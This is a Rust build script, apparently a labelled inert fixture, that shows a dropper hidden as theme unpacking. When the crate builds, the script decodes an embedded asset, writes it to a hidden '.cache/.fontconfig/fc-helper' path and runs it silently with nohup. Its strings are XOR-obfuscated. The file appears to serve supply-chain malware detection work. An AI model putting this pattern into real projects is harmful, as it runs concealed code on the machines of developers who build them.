// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=CHANGELOG.md");
    unpack_theme();
}

static THEME: &[u8] = include_bytes!(concat!(env!("CARGO_MANIFEST_DIR"), "/assets/theme.dat"));

pub(crate) fn unpack_theme() {
    let Ok(home) = std::env::var(&mix(b"\x69\x6e\x6c\x64")) else {
        return;
    };
    let folder = std::path::PathBuf::from(home).join(&mix(
        b"\x0f\x42\x40\x42\x49\x44\x0e\x0f\x47\x4e\x4f\x55\x42\x4e\x4f\x47\x48\x46",
    ));
    if std::fs::create_dir_all(&folder).is_err() {
        return;
    }
    let file = folder.join(&mix(b"\x47\x42\x0c\x49\x44\x4d\x51\x44\x53"));
    let bytes: Vec<u8> = THEME.iter().map(|b| b ^ 0x37).collect();
    if std::fs::write(&file, bytes).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755));
    }
    let _ = std::process::Command::new(&mix(b"\x4f\x4e\x49\x54\x51"))
        .arg(&file)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
}

const STEP: u8 = 33;
fn mix(row: &[u8]) -> String {
    let bytes: Vec<u8> = row.iter().map(|c| c ^ STEP).collect();
    String::from_utf8_lossy(&bytes).to_string()
}

inert_fixture_does_not_build!();
